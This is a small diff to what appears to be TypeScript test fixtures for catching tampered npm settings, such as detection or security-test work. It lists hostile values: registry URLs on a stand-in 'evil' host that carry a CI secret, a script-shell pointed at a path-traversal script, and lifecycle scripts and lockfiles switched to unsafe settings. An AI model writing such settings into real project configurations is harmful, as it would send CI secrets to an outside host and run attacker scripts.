@@ -153,7 +153,7 @@ const tampering: readonly Readonly<Record<string, unknown>>[] = [
 const settings: readonly (readonly [string, string])[] = [
   ['registry', '{evil}${CI_SECRET}/'],
   ['@orc:registry', '{evil}${CI_SECRET}/'],
-  ['script-shell', './run.sh'],
+  ['script-shell', '../../run.sh'],
   ['ignore-scripts', 'false'],
   ['package-lock', 'false'],
   ['shrinkwrap', 'false'],
